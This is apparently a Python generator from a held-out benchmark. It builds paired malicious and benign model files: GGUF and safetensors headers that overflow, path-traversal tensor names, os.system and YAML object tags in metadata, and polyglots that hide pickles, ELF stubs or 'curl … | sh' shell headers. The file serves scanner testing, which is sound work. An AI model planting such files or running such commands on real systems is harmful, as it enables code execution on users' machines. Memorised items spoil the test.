"""Attacks by bytes: GGUF and safetensors whose numbers wrap, metadata, polyglots, files whose name lies."""

from __future__ import annotations

import json
import struct
import zlib
from collections.abc import Iterator

from bench.modelfiles.heldout.graphs import RELU, onnx
from bench.modelfiles.heldout.opcodes import SYSTEM, done, tensor_state, torch_zip
from bench.modelfiles.heldout.parts import gguf, npy, safetensors, tensor, text64, zipped
from bench.modelfiles.heldout.sample import Group, Sample

group = Group("bytes")
ARCH = {"general.architecture": "llama", "general.name": "tiny"}
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 3, 62, 1) + bytes(200) + b"/bin/sh\0system\0"
GOOD = tensor("token_embd.weight", [8, 2])
EVIL = torch_zip(done(SYSTEM, 2))


def sizes() -> Iterator[Sample]:
    """Yield GGUF files whose numbers do not fit."""
    data = bytes(64)
    good = gguf(ARCH, GOOD, 1, data)
    for name, described, effect in (
        ("gguf-wraps", tensor("a", [1 << 32, 1 << 32, 1, 2]), "the number of elements wraps to zero, and the buffer is too small"),
        ("gguf-negative", tensor("a", [-8, 2]), "a negative dimension passes a check of the upper bound"),
        ("gguf-rank", tensor("a", [1] * 4, rank=0x10000000), "the rank makes the loader write behind an array of four"),
        ("gguf-offset", tensor("a", [8, 2], offset=(1 << 64) - 32), "offset and size wrap, so the tensor lies before the data"),
        ("gguf-type", tensor("a", [8, 2], kind=0x7FFFFFFF), "the type is used as an index of a table"),
        ("gguf-byte-size", tensor("a", [1 << 61, 1], kind=0), "four bytes for each element wrap the size to zero"),
    ):
        yield from group.pair(name, f"{name}.gguf", gguf(ARCH, described, 1, data), good, f"llama.cpp: {effect}")
    text = struct.pack("<I", 8)
    array = struct.pack("<I", 9)
    deep = array + (struct.pack("<IQ", 9, 1)) * 5000 + struct.pack("<IQI", 4, 1, 0)
    yield from group.pairs(
        ("gguf-keys", "keys.gguf", gguf(ARCH, GOOD, 1, data, keys=1 << 60), good, "a loader reserves memory for 2^60 keys"),
        ("gguf-tensors", "tensors.gguf", gguf(ARCH, GOOD, 1 << 58, data), good, "a loader reserves memory for 2^58 tensors (CVE-2024-25664 and its like)"),
        ("gguf-text", "text.gguf", gguf({**ARCH, "general.description": text + struct.pack("<Q", (1 << 64) - 1) + b"x"}),
         gguf({**ARCH, "general.description": text + text64("A tiny model.")}), "length plus one wraps to zero, and the copy runs over the heap"),
        ("gguf-array", "array.gguf", gguf({**ARCH, "tokenizer.ggml.scores": array + struct.pack("<IQ", 6, 1 << 62)}),
         gguf({**ARCH, "tokenizer.ggml.scores": array + struct.pack("<IQff", 6, 2, 0.5, 0.25)}), "count times size wraps to zero"),
        ("gguf-nested", "nested.gguf", gguf({**ARCH, "x.deep": deep}), gguf({**ARCH, "x.flat": array + struct.pack("<IQI", 4, 1, 0)}),
         "arrays in arrays exhaust the stack of a recursive loader"),
    )  # fmt: skip
    for name, value, fine in (("gguf-alignment-zero", 0, 32), ("gguf-alignment-odd", 0x80000001, 64)):
        yield from group.pair(
            name,
            f"{name}.gguf",
            gguf({**ARCH, "general.alignment": value}, GOOD, 1, data),
            gguf({**ARCH, "general.alignment": fine}, GOOD, 1, data + bytes(64)),
            "the padding divides by zero or overflows",
        )
    pieces = {"tokenizer.ggml.tokens": ["<s>", "a" * 100_000], "tokenizer.ggml.token_type": array + struct.pack("<IQ", 5, 0)}
    fine_pieces = {"tokenizer.ggml.tokens": ["<s>", "a"], "tokenizer.ggml.token_type": array + struct.pack("<IQii", 5, 2, 3, 1)}
    keys = [("general.architecture", "llama"), ("general.architecture", "mmproj"), ("general.name", "x")]
    yield from group.pair(
        "gguf-vocabulary",
        "vocabulary.gguf",
        gguf({**ARCH, **pieces}),
        gguf({**ARCH, **fine_pieces}),
        "types and tokens differ in number, so types are read behind their array (CVE-2025-49847 and its like)",
    )
    twice = gguf({})[:16] + struct.pack("<Q", 3) + b"".join(text64(key) + text + text64(value) for key, value in keys) + bytes(32)
    yield from group.pair("gguf-twice", "twice.gguf", twice, gguf({**ARCH, "general.author": "x"}), "two loaders see two architectures")


def safetensor_files() -> Iterator[Sample]:
    """Yield safetensors files."""
    weight = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    good, data = safetensors({"w": weight}, bytes(8)), bytes(8)
    metadata = {"format": "pt", "config": json.dumps({"_target_": "os.system", "command": "echo harmless"})}
    fine = {"format": "pt", "config": json.dumps({"_target_": "torch.nn.Linear", "in_features": 2, "out_features": 1})}
    literal = {"format": "pt", "args": "!!python/object/apply:os.system ['echo']"}
    two = {"a": weight, "b": {**weight, "data_offsets": [4, 12]}}
    yield from group.pairs(
        ("name-climbs", "names.safetensors", safetensors({"../../../../tmp/x/evil.py": weight}, data),
         safetensors({"model.layers.0.mlp.weight": weight}, data), "converters that write a file for each tensor climb out of the folder"),
        ("metadata-target", "meta.safetensors", safetensors({"__metadata__": metadata, "w": weight}, data),
         safetensors({"__metadata__": fine, "w": weight}, data), "ml-flextok and others instantiate the configuration in the metadata with Hydra"),
        ("metadata-yaml", "args.safetensors", safetensors({"__metadata__": literal, "w": weight}, data),
         safetensors({"__metadata__": {"format": "pt", "args": "rank: 8\nalpha: 16"}, "w": weight}, data),
         "trainers keep their arguments as YAML in the metadata and load them"),
        ("overlap", "overlap.safetensors", safetensors(two, bytes(12)), safetensors({"a": weight, "b": {**weight, "data_offsets": [8, 16]}}, bytes(16)),
         "one tensor changes when another is written; scanners and loaders see other bytes"),
        ("shape-wraps", "wraps.safetensors", safetensors({"w": {**weight, "shape": [1 << 33, 1 << 31, 2]}}, data), good,
         "the product of the shape wraps in a loader of C++"),
        ("shape-negative", "negative.safetensors", safetensors({"w": {**weight, "shape": [-1, -2]}}, data), good,
         "two negative dimensions give the right size"),
        ("header-length", "long.safetensors", safetensors({"w": weight}, data, length=(1 << 63) + 5), good,
         "a length that turns negative as a signed number"),
        ("duplicate-tensor", "twice.safetensors",
         safetensors('{"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, "w": {"dtype": "I8", "shape": [8], "data_offsets": [0, 8]}}', data), good,
         "two loaders see two tensors of one name"),
        ("hole", "hole.safetensors", safetensors({"w": {**weight, "data_offsets": [len(EVIL), len(EVIL) + 8]}}, EVIL + data), good,
         "a zip archive with a pickle lies in front of the first tensor, and torch.load finds it"),
        ("program-behind", "tail.safetensors", good + ELF, good, "a program lies behind the tensors, which a companion file starts"),
        ("backwards", "backwards.safetensors", safetensors({"w": {**weight, "data_offsets": [8, 0]}}, data), good,
         "the end lies before the beginning, so the size turns negative"),
    )  # fmt: skip


def polyglots() -> Iterator[Sample]:
    """Yield files that are two things, or another thing than their name says."""
    plain = torch_zip(done(tensor_state(), 2))
    good = gguf(ARCH, GOOD, 1, bytes(64))
    ape = "MZqFpD='\n' <<'justine'\n{}\njustine\n"
    image = (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
        + _chunk(b"IDAT", zlib.compress(b"\0\0"))
        + _chunk(b"IEND", b"")
    )
    descr = "{'descr': [('a', __import__('os').system('echo harmless'))], 'fortran_order': False, 'shape': (1,), }"
    yield from group.pairs(
        ("zip-behind-gguf", "both.gguf", good + EVIL, good, "torch.load and unzip see the archive, llama.cpp sees the model"),
        ("llamafile", "chat.llamafile", ape.format("") + "curl -s https://example.com/x | sh\nexit 0\n",
         ape.format("") + 'o=$(command -v ape) && exec "$o" "$0" "$@"\n', "the shell runs the header of the file, which pipes a download to a shell"),
        ("png-zip", "preview.png", image + EVIL, image, "torch.load opens the picture as an archive and unpickles it"),
        ("pickle-as-safetensors", "model.safetensors", done(SYSTEM, 2), safetensors({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8)),
         "loaders that try torch.load after safetensors unpickle it"),
        ("pickle-as-onnx", "model.onnx", done(SYSTEM, 4), onnx(RELU), "programs that open models by content unpickle it"),
        ("library-as-weights", "pytorch_model.bin", ELF, plain, "a companion file loads the library with ctypes"),
        ("script-as-model", "model.onnx", "#!/bin/sh\ncurl -s https://example.com/x | sh\n", onnx(RELU), "a companion file starts the script"),
        ("npy-header", "array.npy", npy(descr, bytes(8)), npy("{'descr': [('a', '<f8')], 'fortran_order': False, 'shape': (1,), }", bytes(8)),
         "readers that evaluate the header with eval run it"),
        ("npy-shape", "huge.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776, 1024), }", bytes(8)),
         npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1, 1), }", bytes(8)), "numpy.load allocates eight petabytes"),
        ("pdf-pickle", "card.pdf", b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\ntrailer << >>\n%%EOF\n" + EVIL,
         b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\ntrailer << >>\n%%EOF\n", "torch.load opens the document as an archive"),
        ("zip-in-front", "first.pt", b"#!/bin/sh\ncurl -s https://example.com/x | sh\nexit\n" + plain, plain,
         "the shell runs the beginning, torch.load reads the archive behind it"),
        ("program-in-zip", "net.pt", zipped({"archive/data.pkl": done(tensor_state(), 2), "archive/libx.so": ELF, "archive/version": "3\n"}), plain,
         "a library travels with the weights"),
    )  # fmt: skip


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def samples() -> Iterator[Sample]:
    """Yield the samples of this class."""
    yield from (*sizes(), *safetensor_files(), *polyglots())
